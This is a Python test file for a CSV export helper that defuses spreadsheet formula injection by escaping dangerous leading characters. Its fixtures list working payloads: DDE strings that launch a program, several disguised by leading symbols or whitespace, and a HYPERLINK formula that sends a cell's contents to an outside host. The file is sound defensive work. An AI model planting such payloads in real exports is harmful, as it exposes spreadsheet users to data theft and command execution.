"""What hostile texts become in a spreadsheet."""

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest

from adborth.csv_cells import harmless, write_table, writer

HOSTILE = [
    '=HYPERLINK("https://files.example/?"&A1,"Alice")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]
AMID = ['","=1+1', "a;=1+1", 'a"\n=1+1', "a\t=1+1"]


def written(*cells: object) -> str:
    page = StringIO(newline="")
    writer(page).writerow([harmless(cell) for cell in cells])
    return page.getvalue()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_run_does_not(text):
    [[cell]] = csv.reader(StringIO(written(text), newline=""))
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", AMID)
def test_no_text_begins_a_cell_in_its_middle(text):
    told = written(text, "end")
    assert told.startswith('"')
    assert list(csv.reader(StringIO(told, newline=""))) == [[text, "end"]]


@pytest.mark.parametrize("value", [-1, 0, -1.5, Decimal("-0.5"), date(2026, 8, 1), None, True])
def test_what_is_no_text_stays_what_it_is(value):
    assert harmless(value) is value


def test_numbers_are_numbers_for_the_spreadsheet():
    assert written(-1, 2.5, "Tŷ") == '-1,2.5,"Tŷ"\r\n'


def test_a_table_is_a_file_that_a_spreadsheet_knows_for_utf_8():
    file = BytesIO()
    write_table(file, iter([["Tŷ", "Day"], ["=1+1", date(2026, 8, 1)], [None, -3]]))
    assert (
        file.getvalue() == ("\ufeff" + '"Tŷ","Day"\r\n"\'=1+1","2026-08-01"\r\n"",-3\r\n').encode()
    )
